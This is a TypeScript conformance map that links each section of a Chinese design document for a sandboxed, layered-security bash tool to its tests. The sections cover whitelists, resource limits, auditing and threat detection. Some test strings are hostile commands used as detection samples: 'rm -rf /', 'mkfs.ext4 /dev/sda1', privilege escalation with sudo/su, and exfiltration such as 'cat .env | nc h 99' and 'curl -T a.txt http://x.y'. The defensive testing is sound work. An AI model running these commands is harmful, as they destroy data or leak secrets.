// LAYER: the implementation document of a bash tool with layers of security.

import { type Conformance, inFile, section } from './point.ts';

const own = inFile('test/profiles/layered.test.ts');
const fields = inFile('test/profiles/layered-fields.test.ts');
const configured = inFile('test/profiles/layered-configuration.test.ts');
const everywhere = inFile('test/profiles/everywhere.test.ts');
const terms = inFile('test/terms/profile.test.ts');
const foreground = inFile('test/running/foreground.test.ts');
const metrics = inFile('test/recording/metrics.test.ts');
const checks = inFile('test/deciding/checks.test.ts', 'src/decide/checks/');
const threats = inFile('src/decide/checks/threats/threats.test.ts');
const analysis = inFile('src/profiles/layered/threat-analysis.test.ts');
const variables = inFile('src/run/environment.test.ts');
const contract = inFile('test/contract/runner-contract.ts');
const violations = inFile('test/sandboxed/violations.test.ts');
const deciding = inFile('test/deciding/decide.test.ts');

const CHECK_TEXTS = 'a check that refuses has the text and the risk of the document';
const DEBUG = 'debug_info: parsing, checks, timeline';
const DEFAULTS = 'LAYER BashConfiguration: its defaults';
const FILE_TOOLS = 'file tools: what a command touches, whether it may, and what it has changed';
const SESSION = 'configuration: the whitelist and the limits of a session';
const SUCCESS = 'every group of a success is filled with what was measured';
const REFUSAL = 'a refusal: nothing ran, and the check that refused is named';
const ANSWERED = '%j is answered with what is wrong';
const WRONG = '%j is an error when the profile is created';
const STREAM = 'every piece has a stream, a number, a time and its place';
const LIMITS = 'layered: the limits of its configuration';
const LIMITED = 'layered: its whitelist, its limits and its timeout';
const CONTEXTS = 'each value of its contexts and of its monitoring has an effect';

export const LAYERED: Conformance = {
  profile: 'layered',
  document: 'Bash工具实现文档 (bash tool with layered security)',
  points: [
    ...section('命令安全验证算法', [
      ["reason: 'Command not in whitelist'", [...own('allowed_commands: nothing else runs'), ...fields(CHECK_TEXTS)]],
      [
        'Dangerous operation detected',
        [...own(REFUSAL), ...fields(CHECK_TEXTS), ...checks(['matches %s', 'rm -rf /', 'mkfs.ext4 /dev/sda1'])],
        {
          differs:
            'Checks know what a command does; the patterns over its text are not used: `/[;&|`$(){}]/` would refuse nearly every command.',
        },
      ],
      [
        'Path access violation',
        [...own('allowed_paths: only inside, and only what was allowed already'), ...fields(CHECK_TEXTS)],
      ],
      [
        'Path traversal attempt detected',
        own('allowed_paths: only inside, and only what was allowed already'),
        {
          differs: '`..` and `~` are resolved, and where they lead counts: `a/../b` is not refused if `b` is allowed.',
        },
      ],
      [
        'Injection attempt detected',
        [
          ...own('command and args are a program and its words: nothing is expanded'),
          ...fields('code that cannot be told is refused as an injection'),
        ],
        {
          differs:
            'Arguments are passed as words, so nothing in them can be injected. What is refused is shell text that cannot be told.',
        },
      ],
      [
        'Resource access violation',
        fields(CHECK_TEXTS),
        { differs: 'What a command will use is not known before: it is ended when it exceeds a limit.' },
      ],
      ["reason: 'All security checks passed',", own(DEBUG)],
      ['sanitizedCommand: sanitizeCommand(command, args)', fields('what passed names the command that ran')],
    ]),
    ...section('沙箱执行环境', [
      ['cwd: this.workingDirectory,', own('cwd and env')],
      [
        'PATH: this.buildSecurePath(),',
        variables("a clean environment has hardshell's variables and a few harmless ones", [
          'a request cannot set %s, settings can',
          'PATH',
        ]),
      ],
      [
        'HOME: this.workingDirectory,',
        [
          ...variables("the caller's home, user and shell take precedence over the host"),
          ...inFile('test/sandboxed/real-work.test.ts')(
            'files with secrets in the home cannot be read, and the tools that look for them still work',
          ),
        ],
        {
          differs:
            'HOME stays: without it git, npm and most tools do not find their settings. The sandbox hides its secrets.',
        },
      ],
      [
        "TMPDIR: path.join(this.workingDirectory, '.tmp'),",
        [
          ...variables("a clean environment has hardshell's variables and a few harmless ones"),
          ...inFile('test/sandboxed/real-work.test.ts')(
            'temporary files last from one command to the next, and are not in /tmp outside',
          ),
        ],
        { differs: 'A private folder outside the project, so that no file of it is committed by accident.' },
      ],
      ["HISTFILE: '/dev/null',", variables("a clean environment has hardshell's variables and a few harmless ones")],
      [
        'shell: false, // 禁用shell解释以防止注入',
        own(
          'without shell features, text with blanks is the name of a program that is not there',
          'command and args are a program and its words: nothing is expanded',
        ),
        { means: 'No shell reads the command.' },
      ],
      ['timeout: this.resourceLimits.executionTimeout', own('max_execution_time and timeout: the shorter one')],
      [
        'await this.setCpuLimit(pid',
        [...terms(LIMITS), ...contract('a processor that stays busy beyond the limit ends the command')],
      ],
      [
        'await this.setMemoryLimit(pid',
        [
          ...own('max_memory: past it the command is ended'),
          ...contract('memory of the tree beyond its limit ends the command'),
        ],
      ],
      ['await this.setFileDescriptorLimit(pid', [...everywhere(LIMITED), ...terms(LIMITS)]],
      [
        'await this.setProcessLimit(pid',
        [...terms(LIMITS), ...contract('more processes than the limit end the command')],
      ],
      [
        'if (options.streamOutput) {',
        own('stream_output: only then a caller that listens gets the output while it runs'),
      ],
      [
        'Output size limit exceeded',
        own('max_output_size: past it the command is ended with resource_limit_exceeded'),
        { differs: 'The text is that of `toUserMessage` in the same document: `Resource limit exceeded: output (…)`.' },
      ],
    ]),
    ...section('命令执行监控', [
      [
        'diskIO: 0,',
        [
          ...fields('updates and the end have the same keys'),
          ...inFile('test/sandboxed/usage.test.ts')('bytes that pass the proxy are counted'),
        ],
        {
          differs:
            '`networkIO` is `null` without the proxy: the kernel has no counter for the traffic of a process tree.',
        },
      ],
      [
        "type: 'resource_update',",
        [
          ...fields('updates and the end have the same keys'),
          ...configured('enableResourceMonitoring: false sends no updates'),
        ],
      ],
      [
        '1000); // 每秒监控一次',
        fields('resources are reported about once a second'),
        { means: 'Resources are measured once a second.' },
      ],
      [
        "await this.handleResourceViolation(executionId, 'cpu_limit', {",
        contract('a processor that stays busy beyond the limit ends the command'),
      ],
      [
        "await this.handleResourceViolation(executionId, 'memory_limit', {",
        own('max_memory: past it the command is ended'),
      ],
      [
        "await this.handleResourceViolation(executionId, 'time_limit', {",
        own('max_execution_time and timeout: the shorter one'),
      ],
      ['this.recordViolationEvent({', fields('statistics.securityEvents: findings, violations and limits')],
      [
        "process.kill(monitorInfo.pid, 'SIGTERM');",
        [
          ...foreground('a timeout ends the whole tree and keeps what was written before'),
          ...foreground('passing a limit ends it'),
        ],
        { differs: 'The whole tree is ended, not one process.' },
      ],
      [
        "process.kill(monitorInfo.pid, 'SIGKILL');",
        contract('what ignores SIGTERM gets SIGKILL after the grace period'),
      ],
      ["monitorInfo.status = 'terminated';", own(['status %s', 'terminated'])],
    ]),
    ...section('智能命令解析', [
      ['const tokens = this.tokenizeCommand(commandLine);', own(DEBUG)],
      [
        'const ast = this.parseTokensToAST(tokens);',
        [...own(DEBUG), ...fields(['ast.type of %j is %s', 'ls | cat', '(ls)'])],
      ],
      [
        'const securityAnalysis = this.analyzeCommandSecurity(ast);',
        fields('privilege escalation is critical, and the threat analysis says why'),
      ],
      ['const executionPlan = this.generateExecutionPlan(ast, securityAnalysis);', own(DEBUG)],
      [
        "isSecure: securityAnalysis.riskLevel === 'low'",
        fields('privilege escalation is critical, and the threat analysis says why'),
      ],
    ]),
    ...section('输入接口规范', [
      ['command: string;                      // 要执行的命令', own('its fields'), { means: 'The command.' }],
      ['args?: string[];', own('its fields', 'command and args are a program and its words: nothing is expanded')],
      [
        'description?: string;                 // 命令描述（用于日志）',
        inFile('test/profiles/standard.test.ts')([
          '%s: the description reaches the person who is asked, and the record',
          'layered',
        ]),
        { means: 'A description of the command, for the log.' },
      ],
      ['cwd?: string;', own('cwd and env')],
      ['env?: Record<string, string>;', own('cwd and env')],
      ['timeout?: number;', own('max_execution_time and timeout: the shorter one')],
      ['capture_output?: boolean;', own('capture_output: false leaves the output out, of the text too')],
      [
        'stream_output?: boolean;',
        own('stream_output: only then a caller that listens gets the output while it runs', STREAM),
      ],
      [
        'max_output_size?: number;',
        own(
          'max_output_size: past it the command is ended with resource_limit_exceeded',
          'up to its limit all of the output is in the answer, by stream',
          'limits of a request can only be lower than those of the configuration',
        ),
        { differs: 'It can only be lower than that of the configuration.' },
      ],
      ['allowed_commands?: string[];', own('allowed_commands: nothing else runs')],
      [
        'allowed_paths?: string[];',
        own('allowed_paths: only inside, and only what was allowed already'),
        { differs: 'It can only restrict what the settings allow.' },
      ],
      [
        'require_confirmation?: boolean;',
        own('require_confirmation: what is risky is asked about although everything is allowed'),
      ],
      ['max_memory?: number;', own('max_memory: past it the command is ended')],
      [
        'max_cpu_usage?: number;',
        [
          ...own('limits of a request reach the engine'),
          ...contract('a processor that stays busy beyond the limit ends the command'),
        ],
      ],
      ['max_execution_time?: number;', own('max_execution_time and timeout: the shorter one')],
      [
        'max_file_operations?: number;',
        own('max_file_operations cannot be enforced: a request with it is refused'),
        { differs: 'An error: neither the kernel nor hardshell counts file operations.' },
      ],
      [
        'enable_sandbox?: boolean;',
        [
          ...own('enable_sandbox: false is a request to the engine, preserve_environment too'),
          ...inFile('test/sandboxed/leaving.test.ts')('is refused unless the settings allow such requests'),
        ],
        { differs: '`false` is a request: the settings must allow it, and a person is asked.' },
      ],
      [
        'preserve_environment?: boolean;',
        [
          ...own('enable_sandbox: false is a request to the engine, preserve_environment too'),
          ...variables(['withholds %s and reports it, without its value', 'GITHUB_TOKEN']),
        ],
        { differs: 'Secrets are never passed on.' },
      ],
      [
        'enable_shell_features?: boolean;',
        own('enable_shell_features: the command is shell text, args are still words'),
      ],
    ]),
    ...section('输出接口规范', [
      ['success: boolean;', own(SUCCESS, 'an exit code is an outcome, not an error', REFUSAL)],
      ['exit_code: number;', own('an exit code is an outcome, not an error', 'a signal is named', REFUSAL)],
      ['stdout: string;', own('up to its limit all of the output is in the answer, by stream')],
      ['execution_info: {', own(SUCCESS, 'cwd and env')],
      [
        'environment_variables: Record<string, string>;',
        own('cwd and env', 'variables whose names say that they are secrets are not shown'),
        { differs: 'Without the values of secrets.' },
      ],
      [
        'max_memory_used: number;',
        [...own(SUCCESS), ...fields('without the keeper they are not measured, and not 0')],
        { differs: 'What was not measured is `null`, here and in the other numbers.' },
      ],
      ['disk_io_write: number;', fields('what was written is counted')],
      [
        'file_operations: number;',
        fields('file operations are not counted, however many there are'),
        { differs: '`null`: neither the kernel nor hardshell counts file operations.' },
      ],
      ['validation_passed: boolean;', own(SUCCESS, REFUSAL)],
      [
        "risk_level: 'low' | 'medium' | 'high' | 'critical';",
        fields(CHECK_TEXTS, 'privilege escalation is critical, and the threat analysis says why'),
      ],
      ['blocked_operations?: string[];', own(SUCCESS, REFUSAL)],
      ['sandbox_used: boolean;', own(SUCCESS)],
      ['pid: number;', fields('pid is the process of the command')],
      ['parent_pid: number;', fields('pid is the process of the command')],
      [
        'child_processes?: number[];',
        own(SUCCESS),
        { differs: 'Those seen when the command wrote output, or in the check once a second.' },
      ],
      ['signal?: string;', own('a signal is named')],
      ['type: BashErrorType;', own(['%s from a real run', 'command_not_found', 'working_directory_invalid'])],
      [
        'details?: any;',
        fields(['command_not_found: %s', './no-such-g'], 'error.context has the values of the message'),
      ],
      ['recovery_suggestions?: string[];', own(REFUSAL)],
      ['command_parsing: ParsedCommand;', own(DEBUG)],
      ['security_checks: SecurityValidationResult[];', [...own(DEBUG), ...fields(CHECK_TEXTS)]],
      ['execution_timeline: ExecutionEvent[];', own(DEBUG)],
    ]),
    ...section('与其他组件的接口', [
      ['analyzesFileOperations(command: string, args: string[]): FileOperationAnalysis;', own(FILE_TOOLS)],
      [
        'validateFileOperationPermissions(',
        own(FILE_TOOLS),
        { differs: 'It takes a command and its arguments: a list of operations could leave some out.' },
      ],
      [
        'syncFileStateAfterExecution(',
        own(FILE_TOOLS),
        { differs: 'It returns the files that were created, changed and deleted; the caller updates its own state.' },
      ],
      ['getBashConfiguration(): BashConfiguration;', own(SESSION)],
      ['getSecurityPolicy(): SecurityPolicy;', own(SESSION)],
      ['updateCommandWhitelist(commands: string[]): void;', own(SESSION)],
      [
        'configureResourceLimits(limits: ResourceLimits): void;',
        [...own(SESSION), ...configured('limits that are changed for a session are checked, too')],
      ],
      [
        'registerExecutionMonitoring(executionId: string, metadata: ExecutionMetadata): void;',
        inFile('test/recording/observer.test.ts')(
          'a shell tool that is observed: what ran and what was refused is in the log',
        ),
        { differs: 'Observers of the shell tool (`observers`) are called for every command.' },
      ],
      [
        'reportExecutionMetrics(metrics: ExecutionMetrics): void;',
        metrics('executions', 'resources'),
        { differs: 'The metrics are an observer: what it counts is not reported to it by hand.' },
      ],
      [
        'triggerSecurityAlert(alert: SecurityAlert): void;',
        inFile('test/recording/alerts.test.ts')(
          'a real tool: what was refused and what nobody answered is told; what ran is not',
        ),
      ],
      [
        'recordAuditLog(entry: AuditLogEntry): void;',
        inFile('test/recording/observer.test.ts')('every step becomes a record that is complete in itself'),
      ],
    ]),
    ...section('命令执行协议', [
      [
        'interface CommandExecutionRequest',
        own('every field of the document is among those that are compared', [
          'a request %j that makes no sense is answered',
          "{ requestId: 'x' }",
        ]),
      ],
      [
        'requestId: string;                    // 请求唯一标识',
        own('responses while it runs and at its end'),
        {
          means: 'The ID of the request.',
        },
      ],
      [
        'sessionId: string;',
        configured(
          [ANSWERED, "{ context: { sessionId: 'another' } }"],
          'values that say what holds anyway are accepted',
        ),
        { differs: 'It must be that of the session: a request cannot act for another one.' },
      ],
      [
        'userId?: string;',
        configured(
          'context.userId: the rules of that user apply',
          'context.userId cannot be another user than that of the session',
        ),
      ],
      [
        'workingDirectory: string;             // 工作目录',
        own('its contexts hold'),
        { means: 'The working directory.' },
      ],
      [
        'environmentVariables: Record<string, string>; // 环境变量',
        own('its contexts hold'),
        { means: 'Environment variables.' },
      ],
      [
        'permissions: Permission[];',
        configured(
          [ANSWERED, "{ securityContext: { permissions: ['write'] } }"],
          'values that say what holds anyway are accepted',
        ),
        { differs: 'Must be empty: the settings grant permissions, by user (`users`).' },
      ],
      [
        'securityLevel: SecurityLevel;       // 安全级别',
        configured(CONTEXTS, [ANSWERED, "{ securityContext: { securityLevel: 'none' } }"]),
        {
          means: 'The security level.',
          differs: '`low` and `none` are errors: a request can be stricter than the settings, not laxer.',
        },
      ],
      ['allowedCommands: string[];          // 允许的命令', own('its contexts hold'), { means: 'Allowed commands.' }],
      ['allowedPaths: string[];             // 允许的路径', configured(CONTEXTS), { means: 'Allowed paths.' }],
      ['enableResourceMonitoring: boolean;', configured('enableResourceMonitoring: false sends no updates')],
      ['enableOutputCapture: boolean;', configured(CONTEXTS)],
      [
        'enableSecurityLogging: boolean;',
        configured([ANSWERED, '{ monitoring: { enableSecurityLogging: false } }']),
        { differs: '`false` is an error: the settings decide what is recorded.' },
      ],
      [
        "status: 'running' | 'completed' | 'failed' | 'terminated';",
        [
          ...own(['status %s', 'completed', 'failed', 'terminated']),
          ...fields('its response says so, with what it used until now'),
        ],
      ],
      [
        "type: 'stdout' | 'stderr' | 'resource_update' | 'status_change';",
        [...own('responses while it runs and at its end'), ...fields('updates and the end have the same keys')],
      ],
      ['endTime?: number;', own('responses while it runs and at its end')],
      [
        'resourceUsage: ResourceUsage;       // 资源使用情况',
        fields('updates and the end have the same keys'),
        {
          means: 'What was used.',
        },
      ],
      ['securityEvents: SecurityEvent[];', fields('statistics.securityEvents: findings, violations and limits')],
    ]),
    ...section('流式输出协议', [
      [
        'startStreaming(requestId: string): Promise<OutputStreamHandle>;',
        own(STREAM),
        { differs: 'One call with a listener: its pieces start with the status `started` and end with how it ended.' },
      ],
      ['updateStatus(streamId: string, status: ExecutionStatus): Promise<void>;', own(STREAM)],
      ['sequenceNumber: number;', own(STREAM)],
      ['byteOffset?: number;', own(STREAM)],
      [
        "type: 'stdout' | 'stderr' | 'status' | 'resource' | 'error';",
        own(STREAM, ['an event %s', 'resource', 'violation', 'error']),
      ],
    ]),
    ...section('多层安全防护', [
      [
        'const commandValidation = this.validateCommandName(command);',
        own(['bad input %j is answered', '{ command: 1 }'], ['%s from a real run', 'command_not_found']),
      ],
      [
        'const specialCharCheck = this.checkSpecialCharacters(command, args);',
        checks(['matches %s', '=ls x', 'echo "a']),
        {
          differs:
            'Characters that are ordinary in a shell have no warning; those that hide something are asked about.',
        },
      ],
      [
        'const userPermissions = await this.getUserPermissions(context.userId);',
        [
          ...configured('context.userId: the rules of that user apply'),
          ...deciding(['%s: %s is %s', "['ann', 'npm test', 'deny']"]),
        ],
      ],
      [
        'const pathPermissions = await this.validatePathPermissions(args, context);',
        deciding(['%s: %s is %s', "['ann', 'rm /home/u/project/x', 'deny']"]),
      ],
      [
        'async createSecureSandbox(',
        inFile('test/doctor/diagnose.test.ts')('the best that is had here holds what it claims'),
      ],
      [
        'readOnlyPaths: this.getReadOnlyPaths(),',
        violations('files outside: what is refused is seen, whatever the command prints'),
      ],
      [
        'allowedHosts: context.allowedNetworkHosts || [],',
        violations('a host that no rule allows', 'a host that a rule denies, although the allowed command names it'),
      ],
      [
        'allowedPorts: context.allowedNetworkPorts || [],',
        [
          ...deciding(['%s with %j: %s', 'curl https://example.com:8443/a']),
          ...inFile('test/sandboxed/network-work.test.ts')('a port of this machine is shut until it is allowed'),
        ],
      ],
      ['namespace: await this.createProcessNamespace(),', violations('a signal to a process outside')],
      [
        'await monitor.enableSyscallMonitoring({',
        inFile('test/contract/backends-chosen.test.ts')([
          '${architecture}: %s %s is answered with %s',
          'ptrace',
          'mount',
          'bpf',
        ]),
        { differs: 'System calls are refused by seccomp and Landlock; single calls are not reported.' },
      ],
      ['alertOnUnauthorizedAccess: true,', violations('the same in events, result, audit, metrics and alerts')],
      [
        'logAllFileOperations: securityPolicy.auditLevel >= AuditLevel.DETAILED',
        [
          ...inFile('test/recording/log.test.ts')('the level basic holds no files and no operations'),
          ...inFile('test/recording/observer.test.ts')('every step becomes a record that is complete in itself'),
        ],
        { differs: 'Files that were created, changed or deleted; files that were only read are not recorded.' },
      ],
      [
        'logNetworkActivity: securityPolicy.auditLevel >= AuditLevel.BASIC',
        inFile('test/recording/produced.test.ts')(
          'operation: each host that a command reached through the proxy, once',
        ),
        { differs: 'From the level `detailed` on: the level `basic` has no operations.' },
      ],
    ]),
    ...section('威胁检测与响应', [
      [
        'addDetectionRule(rule: ThreatDetectionRule): void {',
        [
          ...own(['one that %s', 'finds a threat, at once', 'finds a threat, later']),
          ...threats(['%s with %d: %s', "['high', 0.9, 'deny']", "['low', 1, 'allow']"]),
        ],
      ],
      [
        'mitigationSuggestions: detectionResult.mitigationSuggestions',
        [
          ...own('the analysis names the rule of the caller, and what it said'),
          ...threats('the finding names the rule, the evidence and what to do'),
        ],
      ],
      [
        'overallRiskLevel: this.calculateOverallRisk(threats),',
        [
          ...fields('privilege escalation is critical, and the threat analysis says why'),
          ...analysis('the worst one counts'),
        ],
      ],
      [
        'recommendedAction: this.getRecommendedAction(threats)',
        [
          ...fields('privilege escalation is critical, and the threat analysis says why'),
          ...analysis('the worst one counts'),
        ],
      ],
      [
        "id: 'code_injection_detection',",
        [...analysis('the worst one counts'), ...checks(['matches %s', 'eval "$x"', 'bash -c "$x"'])],
      ],
      [
        "id: 'privilege_escalation_detection',",
        [
          ...fields('privilege escalation is critical, and the threat analysis says why'),
          ...checks(['matches %s', 'sudo ls', 'su - root']),
        ],
      ],
      [
        "id: 'data_exfiltration_detection',",
        [...analysis('the worst one counts'), ...threats(['%s: %s', 'cat .env | nc h 99', 'curl -T a.txt http://x.y'])],
        {
          differs:
            'What leaves the machine counts, not the name of the program: `curl` that only downloads is no threat.',
        },
      ],
    ]),
    ...section('错误分类体系', [
      [
        'enum BashErrorType {',
        [
          ...own('the 17 types, in its order', [
            '%s from a real run',
            'command_not_found',
            'security_validation_failed',
          ]),
          ...fields(
            'permission_denied: a file that cannot be run',
            'network_error: a host that is refused, and one that does not answer',
            'missing_dependencies: the keeper',
          ),
        ],
      ],
      [
        'public readonly recoverable: boolean = true,',
        own(['%s becomes a BashError', 'command_not_allowed', 'io_error']),
      ],
      ['getSecurityLevel(): SecurityLevel {', own('getSecurityLevel')],
      [
        'toUserMessage(): string {',
        [...own('toUserMessage'), ...fields('error.context has the values of the message')],
      ],
    ]),
    ...section('性能指标定义', [
      ['executionStats: {', metrics('executions')],
      ['commandTypeStats: Record<string, {', metrics('types of commands')],
      ['securityStats: {', metrics('security')],
      [
        'resourceStats: {',
        metrics('resources'),
        { differs: '`totalNetworkIO` is the traffic through the proxy; commands outside the sandbox have none.' },
      ],
      ['sandboxStats: {', metrics('the sandbox')],
    ]),
    ...section('基础配置', [
      [
        'enableSandbox: boolean;',
        terms('switches'),
        { differs: '`false` is a request: the settings must allow it, and a person is asked.' },
      ],
      [
        'commandWhitelist: string[];',
        [
          ...own('LAYER BashConfiguration: whitelist and paths of the host hold besides those of a request'),
          ...terms('whitelists without a common entry allow nothing, whichever source they are from'),
        ],
      ],
      [
        'allowedPaths: string[];                // 允许的路径列表',
        configured('allowedPaths: nothing outside is read'),
        { means: 'Allowed paths.' },
      ],
      [
        'securityLevel: SecurityLevel;         // 安全级别',
        configured('securityLevel: high asks about what is risky', [
          WRONG,
          "{ securityLevel: 'low' }",
          "{ securityLevel: 'none' }",
        ]),
        {
          means: 'The security level.',
          differs: '`medium` is as the settings say, `high` asks about everything risky; `low` and `none` are errors.',
        },
      ],
      [
        'defaultTimeout: number;               // 默认超时时间（30秒）',
        [...own(DEFAULTS), ...everywhere(LIMITED)],
        { means: '30 seconds.' },
      ],
      [
        'maxOutputSize: number;                // 最大输出大小（10MB）',
        own(DEFAULTS, 'limits of a request can only be lower than those of the configuration'),
        { means: '10 MB.' },
      ],
      ['enableStreaming: boolean;', own(DEFAULTS, 'enableStreaming: false sends nothing')],
      [
        'maxMemoryUsage: number;               // 最大内存使用（1GB）',
        [...own(DEFAULTS), ...terms(LIMITS)],
        { means: '1 GB.' },
      ],
      [
        'maxCpuUsage: number;                  // 最大CPU使用率（80%）',
        [...own(DEFAULTS), ...terms(LIMITS)],
        { means: '80 %.' },
      ],
      [
        'maxProcesses: number;                 // 最大进程数（10）',
        [...own(DEFAULTS), ...terms(LIMITS)],
        { means: '10 processes.' },
      ],
      [
        'maxFileDescriptors: number;           // 最大文件描述符（1000）',
        [...own(DEFAULTS), ...everywhere(LIMITED)],
        { means: '1,000 descriptors.' },
      ],
      [
        'preserveEnvironment: boolean;',
        [...configured('preserveEnvironment: variables of the host, without secrets')],
        { differs: 'Secrets are never passed on.' },
      ],
      [
        'defaultWorkingDirectory: string;',
        everywhere('createShell({ profile: "layered" }) starts where its configuration says, and counts'),
      ],
      [
        'defaultShell: string;                 // 默认Shell（/bin/bash）',
        [
          ...own(DEFAULTS),
          ...configured(['defaultShell %s', '/bin/sh', 'zsh'], [WRONG, "{ defaultShell: '/usr/bin/fish' }"]),
        ],
        { means: 'The shell, /bin/bash.', differs: 'Only shells that hardshell understands; others are an error.' },
      ],
      [
        'enableMonitoring: boolean;',
        configured('enableMonitoring: false leaves out resource updates, from the timeline and for listeners'),
        { differs: '`false` leaves out the resource updates; limits apply in any case.' },
      ],
      [
        'enableAuditing: boolean;',
        configured([WRONG, '{ enableAuditing: false }']),
        { differs: 'Only `true`: the settings decide what is recorded (`audit.enabled`). Another value is an error.' },
      ],
      [
        'logLevel: LogLevel;',
        configured([WRONG, "{ logLevel: 'debug' }"]),
        { differs: 'Only `info`: there is no log besides the audit log (`audit.level`). Another value is an error.' },
      ],
    ]),
  ],
};
